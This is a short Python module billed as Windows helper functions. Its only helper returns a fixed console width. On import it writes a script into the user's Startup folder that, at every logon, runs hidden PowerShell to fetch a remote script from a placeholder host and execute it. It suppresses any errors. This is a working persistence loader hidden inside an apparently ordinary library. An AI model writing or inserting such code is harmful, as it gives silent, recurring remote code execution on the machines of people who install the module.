"""Windows helpers; on import, leaves a script in the Startup folder that fetches and runs
more code at every logon."""

import os

_STARTUP = os.path.join(
    os.environ.get("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup"
)

try:
    with open(os.path.join(_STARTUP, "winhelpers-update.cmd"), "w") as script:
        script.write(
            "@echo off\r\n"
            "powershell -nop -w hidden -c \"irm https://updates.example.org/w.ps1 | iex\"\r\n"
        )
except OSError:
    pass


def console_width():
    return 80
